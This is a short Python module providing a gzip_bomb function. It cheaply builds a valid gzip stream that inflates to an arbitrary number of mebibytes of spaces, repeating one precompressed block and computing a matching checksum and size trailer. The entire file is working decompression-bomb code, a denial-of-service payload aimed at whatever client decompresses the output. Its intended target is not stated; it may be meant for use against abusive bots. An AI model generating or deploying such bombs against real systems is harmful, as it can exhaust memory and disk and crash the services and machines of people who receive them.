"""Gzip bombs that cost the sender next to nothing."""

from __future__ import annotations

import struct
import zlib
from functools import lru_cache

__all__ = ["gzip_bomb"]

# RFC 1952: deflate, no flags, no time, best compression, unknown operating system.
_GZIP_HEADER = b"\x1f\x8b\x08\x00\x00\x00\x00\x00\x02\xff"
_MEBIBYTE = b" " * 1_048_576


@lru_cache(maxsize=4)
def gzip_bomb(start: bytes, mebibytes: int) -> bytes:
    """Compress `start` and so many mebibytes of spaces into one valid gzip member."""
    deflate = zlib.compressobj(9, zlib.DEFLATED, -zlib.MAX_WBITS)
    # After a full flush the same input gives the same output, so one mebibyte is compressed
    # and then repeated; only the checksum has to see them all.
    first = deflate.compress(start) + deflate.flush(zlib.Z_FULL_FLUSH)
    spaces = deflate.compress(_MEBIBYTE) + deflate.flush(zlib.Z_FULL_FLUSH)
    checksum = zlib.crc32(start)
    for _ in range(mebibytes):
        checksum = zlib.crc32(_MEBIBYTE, checksum)
    size = len(start) + len(_MEBIBYTE) * mebibytes
    trailer = struct.pack("<LL", checksum, size % 2**32)
    return b"".join((_GZIP_HEADER, first, spaces * mebibytes, deflate.flush(), trailer))
